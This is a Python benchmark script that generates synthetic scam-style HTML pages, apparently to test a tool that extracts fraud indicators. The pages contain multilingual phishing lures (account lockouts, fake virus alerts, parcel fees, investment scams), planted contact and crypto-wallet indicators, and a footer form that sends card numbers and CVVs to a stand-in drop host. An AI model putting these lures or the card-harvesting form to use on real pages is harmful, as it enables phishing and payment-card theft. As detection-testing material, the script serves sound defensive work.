#!/usr/bin/env python3
"""Writes realistic-size scam-like HTML pages for extract_bench.

    tests/bench/make_bench_pages.py /tmp/perf-pages [count]
    DRAGNET_BENCH_HTML_DIR=/tmp/perf-pages build-perf/tests/bench/extract_bench

The fixture pages (tests/fixtures/pages) are ~1 KB, so per-page fixed costs
dominate the benchmark there. These pages are 5-60 KB like real landing
pages: navigation, paragraphs of text in several languages, relative and
absolute links, forms, inline scripts (analytics snippets, JSON config,
minified code), images, and a handful of indicators and decoys. Deterministic
(fixed seed), so runs compare.
"""
import os
import random
import sys

LANGS = {
    "sv": ("Ditt konto har spärrats. Av säkerhetsskäl måste du verifiera dina uppgifter inom 24 timmar. "
           "Logga in med BankID för att fortsätta. Vi skickar en bekräftelse till din e-post. ",
           "Ring oss", "08-123 456 78", "SE"),
    "vi": ("Tài khoản của bạn đã bị khóa tạm thời. Vui lòng xác minh thông tin trong vòng 24 giờ để tránh "
           "bị đình chỉ vĩnh viễn. Lợi nhuận đầu tư lên đến 30% mỗi tháng, rút tiền nhanh chóng. ",
           "Hotline", "0912 345 678", "VN"),
    "th": ("พัสดุของคุณไม่สามารถจัดส่งได้เนื่องจากที่อยู่ไม่ครบถ้วน กรุณาชำระค่าธรรมเนียมเพื่อจัดส่งใหม่ "
           "ภายใน 48 ชั่วโมง มิฉะนั้นพัสดุจะถูกส่งคืนผู้ส่ง ",
           "โทร", "081-234-5678", "TH"),
    "zh": ("您的账户存在异常交易，请立即完成身份验证，否则将被冻结。请在二十四小时内缴纳罚款以免影响信用记录。"
           "客服人员将为您提供帮助。",
           "客服电话", "138 0013 8000", "CN"),
    "es": ("Su pedido está retenido en aduanas. Para liberar el paquete debe abonar una tasa de 1,99 EUR "
           "antes de 48 horas. Ofertas exclusivas con un 80% de descuento solo hoy. ",
           "Llámenos al", "612 34 56 78", "ES"),
    "id": ("Selamat! Anda terpilih untuk pekerjaan paruh waktu dengan penghasilan hingga Rp 5.000.000 per hari. "
           "Cukup selesaikan tugas sederhana dan tarik komisi Anda kapan saja. ",
           "Hubungi HP:", "0812-3456-7890", "ID"),
    "en": ("Your computer has been infected with a virus. Do not shut down or restart your computer. "
           "Call Microsoft support immediately to prevent data loss. Your IP address has been logged. ",
           "Call", "+1 415 555 0132", "US"),
}

WORDS = ("account secure verify login update payment refund customer support order delivery bonus "
         "invest profit wallet transfer confirm identity password card limited offer today").split()

JS_SNIPPET = """
(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});
var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;
j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
})(window,document,'script','dataLayer','GTM-K7XQ2M');
"""

MINIFIED = ("function a%d(b,c){var d=b.length,e=[];for(var f=0;f<d;f++){if(b[f]&&b[f].k===c)e.push(b[f].v)}"
            "return e.join(\",\")}var cfg%d={api:\"/api/v2/submit\",retry:3,timeout:15000,msg:\"Vui lòng chờ...\","
            "lang:\"%s\",cb:function(r){if(r.ok){document.getElementById(\"st\").innerText=\"OK\"}}};\n")


def para(rng, lang):
    base = LANGS[lang][0]
    n = rng.randint(1, 3)
    extra = " ".join(rng.choice(WORDS) for _ in range(rng.randint(10, 40)))
    return (base * n) + extra


def page(rng, idx, target):
    lang = rng.choice(list(LANGS))
    text, phone_word, phone, region = LANGS[lang]
    host = "secure-%d.example-scam.top" % idx
    out = []
    out.append('<!DOCTYPE html>\n<html lang="%s">\n<head>\n<meta charset="utf-8">\n' % lang)
    out.append("<title>%s</title>\n" % text[:60].strip())
    out.append('<meta name="description" content="%s">\n' % text[:120].replace('"', ""))
    out.append('<meta property="og:title" content="Secure portal %d">\n' % idx)
    out.append('<meta name="viewport" content="width=device-width, initial-scale=1">\n')
    out.append('<link rel="icon" href="/static/favicon.ico">\n')
    out.append('<link rel="stylesheet" href="/static/css/main.%x.css">\n' % rng.getrandbits(32))
    out.append('<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700">\n')
    out.append("<style>\n" + "".join(".c%d{margin:%dpx;padding:%dpx;color:#%06x}\n" %
                                     (k, rng.randint(0, 20), rng.randint(0, 20), rng.getrandbits(24))
                                     for k in range(rng.randint(10, 60))) + "@media (max-width: 600px){.c1{display:none}}\n</style>\n")
    out.append("<script>%s</script>\n" % JS_SNIPPET)
    out.append("</head>\n<body>\n<header><nav><ul>\n")
    for k in range(rng.randint(8, 25)):
        kind = rng.random()
        if kind < 0.5:
            href = "/%s/%s-%d.html" % (rng.choice(WORDS), rng.choice(WORDS), k)
        elif kind < 0.65:
            href = "%s.php?id=%d&lang=%s" % (rng.choice(WORDS), k, lang)
        elif kind < 0.75:
            href = "../%s/" % rng.choice(WORDS)
        elif kind < 0.85:
            href = "#section-%d" % k
        elif kind < 0.92:
            href = "https://%s/%s" % (host, rng.choice(WORDS))
        else:
            href = "https://cdn.%s-assets.net/%s" % (rng.choice(WORDS), rng.choice(WORDS))
        out.append('<li class="nav-item"><a class="nav-link c%d" href="%s" title="%s">%s</a></li>\n' %
                   (k, href, rng.choice(WORDS), rng.choice(WORDS).capitalize()))
    out.append("</ul></nav><img src=\"/static/img/logo@2x.png\" alt=\"logo\"></header>\n<main>\n")
    indicators_done = False
    sec = 0
    size = 0
    while size < target:
        sec += 1
        out.append('<section id="section-%d" class="c%d">\n<h2>%s</h2>\n' % (sec, sec, rng.choice(WORDS).capitalize()))
        for _ in range(rng.randint(2, 5)):
            out.append("<p>%s</p>\n" % para(rng, lang))
        r = rng.random()
        if r < 0.25:
            out.append('<div class="card"><img src="img/p%d.jpg" data-src="/lazy/p%d.webp" alt="%s">'
                       '<span class="price">%d.%03d.000 đ</span> <span>-%d%%</span></div>\n' %
                       (sec, sec, rng.choice(WORDS), rng.randint(1, 9), rng.randint(0, 999), rng.randint(10, 90)))
        elif r < 0.4:
            out.append('<table class="tbl"><tr><th>Order</th><th>Date</th><th>Total</th></tr>' +
                       "".join("<tr><td>#%d</td><td>2024-0%d-1%d</td><td>$%d.99</td></tr>" %
                               (rng.randint(100000, 999999), rng.randint(1, 9), rng.randint(0, 9), rng.randint(5, 500))
                               for _ in range(rng.randint(3, 10))) + "</table>\n")
        elif r < 0.5:
            out.append('<form action="/api/submit/%d" method="post"><input type="text" name="fullname" '
                       'placeholder="Nguyen Van A"><input type="email" name="email" placeholder="you@example.com">'
                       '<input type="hidden" name="csrf" value="%x"><select name="c"><option value="1">One</option>'
                       '<option value="2">Two</option></select><button type="submit">%s</button></form>\n' %
                       (sec, rng.getrandbits(64), rng.choice(WORDS)))
        elif r < 0.6:
            out.append("<script>%s</script>\n" % "".join(MINIFIED % (sec * 10 + k, sec * 10 + k, lang)
                                                          for k in range(rng.randint(1, 6))))
        if not indicators_done and sec >= 2:
            indicators_done = True
            out.append("<p>%s %s. Email: support%d@%s-help.com</p>\n" % (phone_word, phone, idx, rng.choice(WORDS)))
            out.append('<p>Telegram: @scam_support%d · <a href="https://t.me/scam_help%d">t.me</a> · '
                       '<a href="https://wa.me/46701234567">WhatsApp</a></p>\n' % (idx, idx))
            out.append("<p>BTC: 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 · Ref SE-4471-2026 · Datum 12.05.2024</p>\n")
        size = sum(len(x.encode("utf-8")) for x in out)
    out.append("</main>\n<footer><p>&copy; 2024 %s · <a href=\"/privacy\">Privacy</a> · "
               "<a href=\"mailto:info@%s\">info</a></p>\n" % (host, host))
    out.append('<form action="https://collect-%d.evil-drop.xyz/gate.php" method="post">'
               '<input type="text" name="cardnumber" placeholder="Card number"><input name="cvv">'
               '<input type="hidden" name="kit" value="c3ZhcmFAa2l0LWRyb3Aub25saW5l"></form>\n' % idx)
    out.append("</footer>\n<script src=\"/static/js/app.%x.js\"></script>\n" % rng.getrandbits(32))
    out.append("<script>gtag('config', 'G-AB12CD34EF'); if (expired) { window.location.href = '/expired'; }</script>\n")
    out.append("</body>\n</html>\n")
    return "".join(out)


def main():
    if len(sys.argv) < 2 or sys.argv[1].startswith("-"):
        # (`--help` once became a folder of pages in the repository.)
        sys.exit(__doc__)
    outdir = sys.argv[1]
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 24
    rng = random.Random(20240512)
    os.makedirs(outdir, exist_ok=True)
    for i in range(count):
        # Sizes spread over 5-60 KB, more small than large (like real pages).
        target = int(5000 + (55000 * (i / max(1, count - 1)) ** 1.5))
        d = os.path.join(outdir, "p%02d" % i)
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "page.html"), "w", encoding="utf-8") as f:
            f.write(page(rng, i, target))


if __name__ == "__main__":
    main()
